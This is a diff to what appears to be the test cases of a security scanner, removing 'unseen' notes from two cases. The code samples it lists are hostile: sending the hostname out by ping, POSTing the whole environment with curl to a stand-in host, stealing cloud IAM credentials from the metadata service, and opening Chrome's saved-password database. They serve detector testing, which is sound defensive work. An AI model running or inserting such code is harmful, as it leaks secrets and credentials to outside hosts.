@@ -151,8 +151,7 @@ NETWORK = (
     Case("the host by ping", HIGH, """
         import os, socket
         os.system("ping -c 1 " + socket.gethostname() + ".a.example.invalid")
-    """,
-         unseen="who and where in a command that reaches the network is no chain for EXFIL-001"),
+    """),
     Case("the environment by curl", HIGH, """
         import os
         os.system("curl -X POST -d \\"$(env)\\" https://example.invalid/a")
@@ -214,8 +213,7 @@ NETWORK = (
         import requests
         token = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role").text
         requests.post("https://example.invalid/a", data=token)
-    """,
-         unseen="the metadata service of clouds is no source of credentials"),
+    """),
     Case("passwords of a browser", HIGH, """
         import os, requests, shutil, sqlite3
         path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
